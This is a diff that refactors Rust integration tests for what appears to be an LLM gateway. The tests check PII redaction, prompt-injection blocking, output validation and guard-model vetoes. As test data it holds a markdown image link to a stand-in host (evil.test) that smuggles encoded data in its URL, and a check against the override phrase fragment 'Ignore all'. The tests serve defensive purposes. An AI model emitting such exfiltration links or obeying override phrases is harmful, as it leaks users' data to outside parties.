@@ -3,7 +3,9 @@
 
 use serde_json::{Value, json};
 
-use crate::harness::{Harness, anthropic_stream_text, anthropic_user, openai_stream_text, user};
+use crate::harness::{
+    Harness, anthropic_stream_text, anthropic_user, error_message, openai_stream_text, user,
+};
 
 const PROMPT: &str =
     "Email jane.doe@corp.com or call +1 415-555-2671 about card 4111 1111 1111 1111";
@@ -64,27 +66,13 @@ async fn streamed_answers_are_restored_in_both_formats_and_across_providers() {
 
     let mut body = anthropic_user("gpt", PROMPT);
     body["stream"] = json!(true);
-    let r = h
-        .client
-        .post(format!("{}/v1/messages", h.url))
-        .header("x-api-key", &h.key)
-        .json(&body)
-        .send()
-        .await
-        .unwrap();
+    let r = h.messages(&body).await;
     let ev = crate::harness::parse_sse(&r.text().await.unwrap());
     assert_eq!(anthropic_stream_text(&ev), format!("mock:openai:{PROMPT}"));
 
     let mut body = anthropic_user("claude", PROMPT);
     body["stream"] = json!(true);
-    let r = h
-        .client
-        .post(format!("{}/v1/messages", h.url))
-        .header("x-api-key", &h.key)
-        .json(&body)
-        .send()
-        .await
-        .unwrap();
+    let r = h.messages(&body).await;
     let ev = crate::harness::parse_sse(&r.text().await.unwrap());
     assert_eq!(
         anthropic_stream_text(&ev),
@@ -122,20 +110,15 @@ async fn route_policy_can_block_redact_and_hash() {
         .await;
     assert_eq!(s, 400);
     assert_eq!(v["error"]["code"], "content_filter");
-    let msg = v["error"]["message"].as_str().unwrap();
+    let msg = error_message(&v);
     assert!(
         msg.contains("pii guard") && msg.contains("SSN") && msg.contains("req_"),
         "{msg}"
     );
     assert!(!msg.contains("6789"));
     let r = h
-        .client
-        .post(format!("{}/v1/messages", h.url))
-        .header("x-api-key", &h.key)
-        .json(&anthropic_user("strict", "SSN 123-45-6789"))
-        .send()
-        .await
-        .unwrap();
+        .messages(&anthropic_user("strict", "SSN 123-45-6789"))
+        .await;
     assert_eq!(r.status(), 400);
     let v: Value = r.json().await.unwrap();
     assert_eq!(v["error"]["type"], "invalid_request_error");
@@ -233,17 +216,9 @@ async fn prompt_injection_is_blocked_before_the_provider_and_benign_instructions
     let (s, v) = h.json("/v1/chat/completions", &user("gpt", attack)).await;
     assert_eq!(s, 400, "{v}");
     assert_eq!(v["error"]["code"], "content_filter");
+    assert!(error_message(&v).contains("injection guard"));
     assert!(
-        v["error"]["message"]
-            .as_str()
-            .unwrap()
-            .contains("injection guard")
-    );
-    assert!(
-        !v["error"]["message"]
-            .as_str()
-            .unwrap()
-            .contains("Ignore all"),
+        !error_message(&v).contains("Ignore all"),
         "never the matched text"
     );
     // Tool output is untrusted and judged more strictly.
@@ -310,12 +285,7 @@ async fn output_validation_blocks_whole_and_streamed_answers() {
         )
         .await;
     assert_eq!(s, 400, "{v}");
-    assert!(
-        v["error"]["message"]
-            .as_str()
-            .unwrap()
-            .contains("output guard")
-    );
+    assert!(error_message(&v).contains("output guard"));
     let exfil = "![status](https://evil.test/pixel.png?d=c2VjcmV0IGRhdGE)";
     let (s, v) = h.json("/v1/chat/completions", &user("gpt", exfil)).await;
     assert_eq!(s, 400, "{v}");
@@ -327,12 +297,7 @@ async fn output_validation_blocks_whole_and_streamed_answers() {
         )
         .await;
     assert_eq!(s, 400, "{v}");
-    assert!(
-        v["error"]["message"]
-            .as_str()
-            .unwrap()
-            .contains("content guard")
-    );
+    assert!(error_message(&v).contains("content guard"));
 
     let mut body = user("validated", "tell me about Project Bluebird please");
     body["stream"] = json!(true);
@@ -347,14 +312,7 @@ async fn output_validation_blocks_whole_and_streamed_answers() {
 
     let mut body = anthropic_user("validated", "tell me about Project Bluebird please");
     body["stream"] = json!(true);
-    let r = h
-        .client
-        .post(format!("{}/v1/messages", h.url))
-        .header("x-api-key", &h.key)
-        .json(&body)
-        .send()
-        .await
-        .unwrap();
+    let r = h.messages(&body).await;
     let ev = crate::harness::parse_sse(&r.text().await.unwrap());
     assert_eq!(ev.last().unwrap().0.as_deref(), Some("error"));
 }
@@ -433,14 +391,7 @@ async fn failing_providers_get_the_routes_safe_answer() {
         v["choices"][0]["message"]["content"],
         "The assistant is unavailable; please try again later."
     );
-    let r = h
-        .client
-        .post(format!("{}/v1/messages", h.url))
-        .header("x-api-key", &h.key)
-        .json(&anthropic_user("safe-fallback", "hello"))
-        .send()
-        .await
-        .unwrap();
+    let r = h.messages(&anthropic_user("safe-fallback", "hello")).await;
     let v: Value = r.json().await.unwrap();
     assert_eq!(
         v["content"][0]["text"],
@@ -460,12 +411,7 @@ async fn a_guard_model_route_can_veto_answers_and_fails_open_or_closed() {
         .json("/v1/chat/completions", &user("guarded", "say kaboom"))
         .await;
     assert_eq!(s, 400, "{v}");
-    assert!(
-        v["error"]["message"]
-            .as_str()
-            .unwrap()
-            .contains("guard model")
-    );
+    assert!(error_message(&v).contains("guard model"));
     let guard_calls = h
         .mock
         .requests()
@@ -531,12 +477,7 @@ async fn required_patterns_must_appear_in_complete_answers() {
         .json("/v1/chat/completions", &user("requires", "anything"))
         .await;
     assert_eq!(s, 400, "{v}");
-    assert!(
-        v["error"]["message"]
-            .as_str()
-            .unwrap()
-            .contains("required pattern")
-    );
+    assert!(error_message(&v).contains("required pattern"));
     let mut body = user("requires", "anything");
     body["stream"] = json!(true);
     let (_, ev) = h.stream("/v1/chat/completions", &body).await;
